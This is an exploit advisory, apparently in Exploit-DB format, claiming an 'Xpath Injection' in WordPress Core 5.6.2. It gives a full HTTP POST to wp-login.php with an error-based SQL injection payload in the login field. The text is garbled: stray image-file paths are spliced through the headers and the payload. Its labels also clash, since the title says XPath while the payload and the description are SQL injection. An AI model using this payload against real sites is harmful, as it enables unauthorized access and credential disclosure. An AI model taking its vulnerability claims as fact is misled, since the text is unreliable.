# Exploit Title: WordPress Core 5.6.2 - Xpath Injection
# Date: 13/08/2023
# Exploit Author: Behrouz Mansoori
# Vendor Homepage:
# Software Link:
# Version: 5.6.2
# Tested on: Mac
#This vulnerability allows remote attackers to disclose sensitive information on affected installations of WordPress Core,
#The issue results from the lack of proper validation of a user-supplied string before using it to construct SQL queries.
#An attacker can leverage this vulnerability to disclose stored credentials, leading to further compromise.
# [ Sample Request ] :
POST /wp-login.php HTTP/2
Host: localhost
Cookie:wordpress_test_cookie=WP%20Cookie%20check
Content-Length: 125
Cache-Control: max-age=0
Sec-Ch-Ua-Mobile: ?0
Sec-Ch-Ua-Platform: ""
Upgrade-Insecure-Requests: 1
Content-Type: application/x-www-form-urlencoded
User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36(KHTML, like Gecko) Chrome/115.0.5790.171 Safari/537.36
Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7
Sec-Fetch-Site: same-origin
Sec-Fetch-Mode: navigateSec-Fetch-User: ?1
Sec-Fetch-Dest: document
Accept-Encoding: gzip, deflate
Accept-Language: en-US,en;q=0.9log=test' and extractvalue (rand(), concat(0x7e, version () ))--+&pwd=test&